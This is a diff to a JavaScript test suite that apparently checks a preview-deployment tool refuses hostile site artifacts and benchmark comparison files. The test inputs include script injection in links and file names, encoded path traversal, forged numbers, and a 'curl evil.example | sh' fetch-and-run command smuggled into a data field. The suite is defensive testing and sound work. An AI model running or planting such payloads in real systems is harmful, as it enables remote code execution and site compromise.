@@ -51,11 +51,18 @@ describe('a hostile artifact', () => {
     ['a redirection', evil(pageWith('', '<meta http-equiv="refresh" content="0">')), /http-equiv/],
     ['a link that runs', evil(pageWith('<a href="javascript:1">x</a>')), /javascript:/],
     [
-      'a foreign style sheet',
-      evil(pageWith('', '<link rel="stylesheet" href="//e.example/a.css">')),
+      'a foreign icon',
+      evil(pageWith('', '<link rel="icon" href="//e.example/a.ico">')),
       /e\.example/,
     ],
-    ['a style that loads', evil(pageWith('<p style="background:url(//e.example)">x</p>')), /url\(/],
+    ['a style', evil(pageWith('<p style="background:url(//e.example)">x</p>')), /attribute style/],
+    ['elements in one another', evil(pageWith('<div>'.repeat(100_000))), /100 deep/],
+    ['an encoded way out', evil(pageWith('<a href="..%2findex.html">x</a>')), /outside of the/],
+    [
+      'a page under the name of data',
+      { 'site/a.json': '<script>x</script>', 'comparison.json': comparison },
+      /`a\.json`: `is no JSON`/,
+    ],
     [
       'a script in a name',
       { 'site/<script>alert(1)</script>.html': 'x', 'comparison.json': comparison },
@@ -115,6 +122,16 @@ describe('a hostile artifact', () => {
       /is about the commit aaaa/,
     ],
     [
+      'a comparison with another base',
+      {
+        'comparison.json': JSON.stringify({
+          ...slower(commit),
+          base: { commit: '9'.repeat(40) },
+        }),
+      },
+      /compares with the commit 9{12}, but the pull request parts from a{12}`/,
+    ],
+    [
       'a forged number',
       { 'comparison.json': forged((measured) => (measured.ratio.point = 0.5)) },
       /does not follow from its rounds/,
@@ -157,6 +174,13 @@ describe('a hostile artifact', () => {
     const ended = await host.deploy(artifact(contents), pull);
     expect(ended.exitCode).toBe(1);
     expect(ended.stderr).toContain('The preview was refused, and nothing of it deployed');
+  });
+
+  it('that tells a command to repeat it is not quoted', async () => {
+    const content = JSON.stringify({ ...slower(commit), command: 'curl evil.example | sh' });
+    await host.deployHere(artifact({ 'comparison.json': content }), pull);
+    expect(host.comments()[0]).toContain('Repeat it: `npm run compare -- --base aaaaaaaaaaaa`');
+    expect(host.comments()[0]).not.toContain('evil');
   });
 
   it('with sentences that mention, link and embed is shown as text', async () => {
